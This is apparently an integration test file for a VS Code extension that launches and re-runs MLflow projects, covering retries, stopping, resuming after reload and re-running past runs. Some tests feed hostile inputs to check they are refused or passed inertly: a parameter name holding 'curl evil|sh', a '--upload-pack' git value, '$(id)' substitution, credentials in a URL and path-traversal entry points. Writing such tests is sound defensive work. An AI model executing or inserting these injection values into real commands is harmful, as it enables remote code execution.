import assert from 'node:assert/strict';
import { access, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import * as vscode from 'vscode';
import type { Log } from '../../src/base/log';
import { commands } from '../../src/ids';
import type { LaunchingHost } from '../../src/launching/launchingHost';
import { confirmAgain } from '../../src/launching/confirmAgain';
import { ProjectRuns, type WantedRun } from '../../src/launching/projectRuns';
import { wantedAgain } from '../../src/launching/runAgain';
import type { Run } from '../../src/mlflow/model';
import { Launches } from '../../src/state/launches';
import { TaskLauncher } from '../../src/terminal/taskLauncher';
import { LaunchingStage, lives } from './launchingStage';
import { activated, until } from './underTest';

const ignore = (): void => undefined;

describe('launching projects', function () {
  this.timeout(60_000);

  const stage = new LaunchingStage();

  it('hands odd values to mlflow run as they are, with the server in the environment', async () => {
    const odd = `-x "a" 'b' $(id) \${env:HOME} \${command:workbench.action.quit} ü\\n;`;
    await stage.launch({ note: odd, alpha: '0.25' });
    const { args, env, cwd } = await stage.notes();
    await stage.untilItIs('finished');
    assert.deepEqual(args, [
      ...['run', '--entry-point', 'main', '--experiment-id', '1', '--env-manager', 'local'],
      ...['-P', `note=${odd}`, '-P', 'alpha=0.25', '--', stage.project],
    ]);
    assert.equal(env['MLFLOW_TRACKING_URI'], stage.server.url);
    assert.equal(env['ODD'], 'x');
    // What stands for Python may be a shim that puts a folder of its own first.
    assert.ok(env['PATH']?.split(':').includes(path.join(stage.folder, 'bin')), env['PATH']);
    assert.equal(cwd, stage.project);
    assert.ok(
      vscode.window.terminals.some(({ name }) => name.includes('mlflow run: iris')),
      vscode.window.terminals.map(({ name }) => name).join(),
    );
  });

  it('says that a run has failed, and runs it again', async () => {
    await stage.launch({ do: 'fail' });
    await stage.untilItIs('failed');
    const { message } = await stage.launched();
    assert.match(message ?? '', /exit code 3/);
    const first = (await stage.launched()).id;
    await vscode.commands.executeCommand(commands.retryLaunch, {
      target: { kind: 'launch', id: first },
    });
    await until('it has ended again', async () => {
      const { id, state } = await stage.launched();
      return id !== first && state === 'failed';
    });
  });

  it('remembers the values of a project', async () => {
    await stage.launch({ do: 'fail' });
    await stage.untilItIs('failed');
    await rm(path.join(stage.folder, 'notes.json'));
    await stage.launch({});
    assert.ok((await stage.notes()).args.includes('do=fail'));
    await stage.untilItIs('failed');
  });

  it('stops a run with SIGINT, and leaves nothing of what it has started', async () => {
    await stage.launch({ do: 'stay' });
    const { pids = [] } = await stage.notes();
    await vscode.commands.executeCommand(commands.stopLaunch, {
      target: { kind: 'launch', id: (await stage.launched()).id },
    });
    assert.equal(await stage.state(), 'stopped');
    await access(path.join(stage.folder, 'interrupted'));
    await until('all have ended', () => !pids.some(lives));
  });

  it('ends what runs in a terminal that is closed by hand', async () => {
    await stage.launch({ do: 'stay' });
    const { pids = [] } = await stage.notes();
    await until('the terminal is there', () =>
      vscode.window.terminals.some(({ name }) => name.includes('mlflow run: iris')),
    );
    vscode.window.terminals
      .filter(({ name }) => name.includes('mlflow run: iris'))
      .forEach((terminal) => terminal.dispose());
    await until('all have ended', () => !pids.some(lives));
    await stage.untilItIs('stopped');
  });

  it('finds a run again after a reload, stops it, and knows how one ended that nobody saw', async () => {
    const memory = new Map<string, unknown>();
    const { sessions } = await activated();
    const window = (given?: Pick<TaskLauncher, 'launch' | 'resume'>) => {
      const remembered = {
        get: (key: string) => memory.get(key),
        update: (key: string, value: unknown) => {
          memory.set(key, JSON.parse(JSON.stringify(value)));
          return Promise.resolve();
        },
      };
      const launches = new Launches(remembered);
      const log = { info: ignore, warn: ignore, error: ignore } as unknown as Log;
      const launcher = new TaskLauncher(log);
      const host = {
        ...{ sessions, launches, log, memory: remembered },
        clientVariables: () => Promise.resolve({ set: {}, unset: [] }),
        reveal: () => Promise.resolve(),
      } as unknown as LaunchingHost;
      const runs = new ProjectRuns(host, given ?? launcher);
      const close = (): void => {
        runs.dispose();
        launcher.dispose();
      };
      return { launches, runs, close };
    };
    const wanted = (what: string): WantedRun => ({
      command: {
        program: {
          ...{ kind: 'project', uri: stage.project },
          ...{ version: undefined, entryPoint: 'main' },
        },
        parameters: [['do', what]],
        ...{ experimentId: '1', runId: undefined, environmentManager: 'local' },
        ...{ backend: undefined, extraArguments: [], environment: { NOTES: stage.folder } },
      },
      ...{ connection: undefined, changing: new Set(), folder: undefined },
    });

    const first = window();
    const id = await first.runs.start(wanted('stay'));
    const { pids = [] } = await stage.notes();
    await until('it can be found again', () => /keeper/.test(JSON.stringify([...memory])));
    assert.doesNotMatch(JSON.stringify([...memory]), /NOTES/);
    first.close();

    const second = window();
    await second.runs.resume();
    assert.equal(second.launches.get(id)?.state, 'running');
    second.runs.show(id);
    await second.runs.stop(id);
    assert.equal(second.launches.get(id)?.state, 'stopped');
    await until('all have ended', () => !pids.some(lives));

    second.launches.change(id, { state: 'running', endedAt: undefined });
    second.close();
    const third = window();
    await third.runs.resume();
    const { state, message } = third.launches.get(id) ?? {};
    assert.deepEqual([state, message], ['stopped', 'It ended while nobody was looking.']);

    third.launches.change(id, { state: 'running', endedAt: undefined });
    third.close();
    const refuse = (): Promise<never> => Promise.reject(new Error('cannot be looked for'));
    const fourth = window({ launch: refuse, resume: refuse });
    await fourth.runs.resume();
    assert.equal(fourth.launches.get(id)?.state, 'stopped');

    let begin: (error: Error) => void = ignore;
    const starting = new Promise<never>((_, reject) => {
      begin = reject;
    });
    const fifth = window({ launch: () => starting, resume: refuse });
    const started = fifth.runs.start(wanted('stay')).catch(ignore);
    await until('it is being started', () => fifth.launches.all[0]?.state === 'starting');
    await fifth.runs.stop(fifth.launches.all[0]?.id ?? '');
    assert.equal(fifth.launches.all[0]?.state, 'stopping');
    begin(new Error('refused'));
    await started;
    fifth.close();
  });

  describe('once more', () => {
    const runOf = (
      tags: Readonly<Record<string, string>>,
      params: Readonly<Record<string, string>> = {},
    ): Run => {
      const pairs = (all: Readonly<Record<string, string>>) =>
        Object.entries(all).map(([key, value]) => ({ key, value }));
      return {
        ...{ id: 'a1', name: 'calm-elk', experimentId: '7', params: pairs(params) },
        tags: pairs(tags),
      } as unknown as Run;
    };
    const ofProject = (source: string, more: Readonly<Record<string, string>> = {}) => ({
      ...{ 'mlflow.project.entryPoint': 'main', 'mlflow.source.name': source, ...more },
    });

    it('takes the parameters as they were given, and none that the script has logged', async () => {
      const params = { note: `'it'"'"'s $HOME'`, alpha: '0.5', accuracy: '1' };
      const wanted = await wantedAgain(
        runOf(ofProject(stage.project, { 'mlflow.project.env': 'uv' }), params),
        stage.server.url,
      );
      assert.deepEqual(wanted.command.parameters, [
        ['note', `it's $HOME`],
        ['alpha', '0.5'],
      ]);
      assert.equal(wanted.command.experimentId, '7');
      assert.equal(wanted.command.environmentManager, 'uv');
    });

    it('takes a Git project at its commit, without a sign-in that somebody put into its address', async () => {
      const tags = ofProject('https://me:s3cret@example.org/p.git#sub', {
        'mlflow.source.git.commit': 'c0ffee5',
      });
      const { command } = await wantedAgain(runOf(tags), stage.server.url);
      assert.deepEqual(command.program, {
        ...{ kind: 'project', uri: 'https://example.org/p.git#sub' },
        ...{ version: 'c0ffee5', entryPoint: 'main' },
      });
    });

    it('takes no version, and no names of parameters, that a shell or Git may take for something else', async () => {
      const tags = ofProject('https://example.org/p.git', {
        'mlflow.source.git.commit': '--upload-pack=x',
      });
      const params = { 'x;curl evil|sh;': '1', '--y': '1', 'a.b-c': '2' };
      const { command } = await wantedAgain(runOf(tags, params), stage.server.url);
      assert.equal(command.program.kind === 'project' && command.program.version, undefined);
      assert.deepEqual(command.parameters, [['a.b-c', '2']]);
    });

    it('refuses places that a server may not name: none, relative ones, shares, and what lies outside of a project', async () => {
      const said = (run: Run): Promise<string> =>
        wantedAgain(run, stage.server.url).then(
          () => 'nothing',
          (error: unknown) => String(error),
        );
      for (const source of ['', '.', 'src', '//host/share', '/#/../../host', 'file:////host/p']) {
        assert.match(await said(runOf(ofProject(source))), /is not on this machine/, source);
      }
      assert.match(
        await said(runOf({ 'mlflow.project.entryPoint': 'main' })),
        /\?, is not on this machine/,
      );
      for (const entryPoint of ['../../x.sh', '/tmp/x.py', 'a/../../b.sh', 'C:\\x.py']) {
        const tags = ofProject(stage.project, { 'mlflow.project.entryPoint': entryPoint });
        assert.match(await said(runOf(tags)), /entry point outside of its project/, entryPoint);
      }
    });

    it('asks before it runs what is not in the workspace, or many at once', async () => {
      const git = await wantedAgain(
        runOf(ofProject('https://example.org/p.git'), { alpha: '1' }),
        stage.server.url,
      );
      assert.equal(await confirmAgain([git]), false);
      const [said] = stage.person.said;
      assert.match(said?.text ?? '', /not in this workspace/);
      const { modal, detail } = said?.actions[0] as unknown as vscode.MessageOptions;
      assert.equal(modal, true);
      for (const part of ['https://example.org/p.git', 'default branch', 'main', 'alpha=1']) {
        assert.ok(detail?.includes(part), detail);
      }
      stage.person.press = () => 'Run Again';
      assert.equal(await confirmAgain([git]), true);
      assert.equal(await confirmAgain([git, git, git]), true);
      assert.match(stage.person.last.text, /Run 3 runs again\?/);
    });

    it('asks nothing for one run of the workspace', async () => {
      const [root] = vscode.workspace.workspaceFolders ?? [];
      assert.ok(root);
      const outside = await wantedAgain(runOf(ofProject(stage.project)), stage.server.url);
      const { program } = outside.command;
      assert.equal(await confirmAgain([outside]), false);
      const inside = {
        ...outside,
        command: {
          ...outside.command,
          program: { ...program, uri: root.uri.fsPath } as typeof program,
        },
      };
      assert.equal(await confirmAgain([inside]), true);
      assert.equal(stage.person.said.length, 1);
    });

    it('refuses what did not come from a project, or from one that is gone or has changed', async () => {
      const said = (run: Run): Promise<string> =>
        wantedAgain(run, stage.server.url).then(
          () => 'nothing',
          (error: unknown) => String(error),
        );
      assert.match(await said(runOf({})), /did not come from a project/);
      assert.match(await said(runOf(ofProject('/no/such/folder'))), /is not on this machine/);
      await writeFile(stage.file.fsPath, 'entry_points: {other: {command: x}}');
      const folder = stage.project;
      assert.match(await said(runOf(ofProject(folder))), /has no entry point main/);
    });
  });
});
